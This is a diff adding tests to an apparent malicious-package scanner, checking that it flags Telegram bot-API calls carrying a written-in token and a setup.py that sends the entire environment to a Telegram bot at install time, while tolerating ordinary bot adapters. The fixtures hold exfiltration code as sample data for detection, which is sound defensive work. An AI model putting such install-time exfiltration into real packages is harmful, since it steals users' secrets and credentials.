@@ -601,3 +601,57 @@ def test_an_npmrc_named_in_a_path_join_is_a_credential_file():
     """``path.join(home, '.npmrc')`` names the registry credentials as ``~/.npmrc`` does."""
     body = "const rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');"
     assert "mp.creds.files" in {e.rule_id for e in run_precheck(new_file("index.js", body), POLICY).evidence}
+
+
+# Shaped like a bot token (digits, a colon, 35 characters from "AA"); no bot has it.
+BOT_TOKEN = "5550001234:AAEx4mpleT0kenForTestsOnly_abcdefgh"
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        f'import requests\nrequests.get("https://api.telegram.org/bot{BOT_TOKEN}/sendMessage", params={{"text": "hi"}})',
+        f'import requests\nTOKEN = "{BOT_TOKEN}"\nrequests.get(f"https://api.telegram.org/bot{{TOKEN}}/sendMessage")',
+        f'const token = "{BOT_TOKEN}";\nfetch(`https://api.telegram.org/bot${{token}}/sendDocument`, {{method: "POST"}});',
+    ],
+    ids=["in-the-url", "in-a-constant", "in-javascript"],
+)
+def test_a_telegram_bot_token_written_into_package_code_blocks(body):
+    """Code that carries its own bot's token reports to a bot its author reads: decisive."""
+    result = run_precheck(new_file("pkg/__init__.py", body), POLICY)
+    assert result.verdict == "harmful"
+    assert "mp.beacon.webhook" in {e.rule_id for e in result.evidence}
+
+
+@pytest.mark.parametrize(
+    ("path", "body"),
+    [
+        (
+            "pkg/adapters/telegram.py",
+            "import httpx\nclass TelegramAdapter:\n    def send(self, chat_id, text):\n"
+            '        url = f"https://api.telegram.org/bot{self.token}/sendMessage"\n'
+            '        return httpx.post(url, json={"chat_id": chat_id, "text": text})',
+        ),
+        (
+            "tests/test_telegram.py",
+            "def test_poll(respx_mock):\n"
+            '    respx_mock.get("https://api.telegram.org/bot-token/getUpdates").respond(json={"ok": True})',
+        ),
+    ],
+    ids=["adapter-with-a-configured-token", "test-with-a-placeholder-token"],
+)
+def test_telegram_bot_api_calls_without_a_token_stay_below_the_vote(path, body):
+    """A bot library or an agent's Telegram adapter calls the same API with its user's token."""
+    result = run_precheck(new_file(path, body), POLICY)
+    assert result.score < 0.5 * POLICY.precheck.block_score
+    assert "mp.beacon.telegram-api" in {e.rule_id for e in result.evidence}
+
+
+def test_a_telegram_call_that_carries_the_environment_out_at_install_time_blocks():
+    """Without a written token the API call is evidence that adds up with what it sends, and when."""
+    body = (
+        "import os, requests\nfrom setuptools import setup\n"
+        "requests.post(f\"https://api.telegram.org/bot{os.getenv('TG')}/sendMessage\","
+        ' data={"text": str(dict(os.environ))})\nsetup(name="x")'
+    )
+    assert run_precheck(new_file("setup.py", body), POLICY).verdict == "harmful"
